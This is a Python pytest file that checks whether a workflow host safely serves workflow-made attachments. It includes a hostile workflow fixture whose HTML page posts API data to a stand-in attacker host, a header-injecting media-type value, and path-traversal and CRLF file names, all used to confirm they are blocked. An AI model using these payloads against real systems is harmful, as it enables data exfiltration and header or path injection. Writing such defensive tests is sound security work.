"""Hostile workflows that aim past the host at the people reading their findings.

Attachments are workflow-made bytes served from the API's own origin: the host serves them
under a sandboxing Content-Security-Policy (an opaque origin that cannot reach the API or its
bearer token), never lets a workflow choose a file name that leaves the finding, and never lets
a media type smuggle in extra response headers.
"""

from __future__ import annotations

import textwrap
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from host.runtime.app import Host
from host.service import Service
from tests.conftest import make_config

pytestmark = [pytest.mark.sandbox, pytest.mark.timeout(120)]
TOKEN = "api-token-not-for-workflows"

HOSTILE = """
import { defineWorkflow } from "@wfhost/sdk";
const PAGE = "<html><body><script>fetch('/api/v1/findings', { method: 'POST' }).then(r => r.text())" +
  ".then(t => navigator.sendBeacon('https://evil.example/', t));</script></body></html>";
export default defineWorkflow({
  name: "phisher",
  triggers: [{ on: "manual" }],
  capabilities: ["findings.report"],
  params: { mediaType: { type: "string", default: "text/html" }, name: { type: "string", default: "report.html" } },
  async run(ctx: any) {
    await ctx.report({ title: "click me", attachments: [{ name: ctx.params.name, mediaType: ctx.params.mediaType, text: PAGE }] });
  },
});
"""


@pytest.fixture
async def host(tmp_path: Path) -> AsyncIterator[tuple[str, Host]]:
    custom = tmp_path / "custom"
    custom.mkdir()
    (custom / "phisher.ts").write_text(textwrap.dedent(HOSTILE))
    builtin = tmp_path / "builtin"
    builtin.mkdir()
    config = make_config(
        tmp_path,
        api={"host": "127.0.0.1", "port": 0, "token": TOKEN},
        workflows={"builtinDirectory": str(builtin)},
        customWorkflows={"typescript": {"enabled": True, "volume": {"mountPath": str(custom)}}},
        sandbox={"invocationTimeoutSeconds": 10},
    )
    running = Host(config, with_cluster=False)
    service = Service(running)
    try:
        await service.start(watch=False)
        assert service.url is not None
        yield service.url, running
    finally:
        await service.stop()


async def _trigger(url: str, params: dict[str, Any]) -> dict[str, Any]:
    body = {"workflow": "phisher", "target": {"namespace": "shop", "pod": "web-1"}, "params": params, "wait": True}
    async with aiohttp.ClientSession() as s, s.post(f"{url}/api/v1/trigger", json=body,
                                                    headers={"Authorization": f"Bearer {TOKEN}"}) as r:
        doc: dict[str, Any] = await r.json()
        return doc


async def _healthy(url: str) -> None:
    """The API still answers and the same workflow still runs a benign invocation."""
    async with aiohttp.ClientSession() as s, s.get(f"{url}/healthz") as r:
        assert r.status == 200
    doc = await _trigger(url, {"name": "plain.txt", "mediaType": "text/plain"})
    assert doc["outcome"] == "ok", doc


async def _attachment(url: str, doc: dict[str, Any]) -> aiohttp.ClientResponse:
    finding = doc["findings"][0]
    auth = {"Authorization": f"Bearer {TOKEN}"}
    async with aiohttp.ClientSession() as s, s.get(f"{url}/api/v1/findings/{finding['id']}", headers=auth) as r:
        att = (await r.json())["attachments"][0]
    session = aiohttp.ClientSession(headers=auth)
    try:
        response = await session.get(f"{url}{att['url']}")
        await response.read()
        return response
    finally:
        await session.close()


async def test_a_scripted_html_attachment_is_served_only_in_a_sandboxed_origin(host: tuple[str, Host]) -> None:
    url, _ = host
    doc = await _trigger(url, {})
    assert doc["outcome"] == "ok", doc
    response = await _attachment(url, doc)
    csp = response.headers["Content-Security-Policy"]
    directives = [d.strip() for d in csp.split(";")]
    assert "sandbox allow-scripts" in directives  # an opaque origin: no cookies, no same-origin API calls
    assert "allow-same-origin" not in csp
    assert "default-src 'none'" in directives  # and no network at all, so nothing to send a token to
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    await _healthy(url)


async def test_a_media_type_cannot_inject_response_headers(host: tuple[str, Host]) -> None:
    url, _ = host
    doc = await _trigger(url, {"mediaType": "text/html\r\nSet-Cookie: session=stolen\r\nX-Evil: 1"})
    # refused when reported: a media type is validated (type/subtype, one optional parameter)
    assert doc["outcome"] == "failed", doc
    assert "mediaType" in (doc["error"] or "")
    assert doc["findings"] == []
    await _healthy(url)


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "a/b.html", ".htaccess/..", "x" * 200, "evil\r\n.html"],
    ids=["dotdot", "slash", "hidden-dotdot", "too-long", "crlf"],
)
async def test_an_attachment_name_cannot_leave_the_finding(host: tuple[str, Host], name: str) -> None:
    url, _ = host
    doc = await _trigger(url, {"name": name})
    assert doc["outcome"] == "failed", doc
    assert "name" in (doc["error"] or "")
    await _healthy(url)
